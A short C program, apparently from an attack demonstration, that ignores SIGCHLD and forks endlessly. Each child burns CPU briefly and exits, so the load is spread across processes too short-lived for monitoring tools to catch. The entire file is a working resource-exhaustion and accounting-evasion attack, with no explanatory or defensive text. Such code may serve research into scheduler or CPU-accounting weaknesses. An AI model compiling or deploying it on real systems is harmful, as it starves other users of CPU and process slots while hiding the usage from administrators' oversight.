/* CPU time in children that live shorter than anybody looks, and that nobody waits for. */
#include "attack.h"

int main(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;)
        if (fork() == 0) {
            for (volatile long i = 0; i < 2000000; i++) continue;
            _exit(0);
        }
}
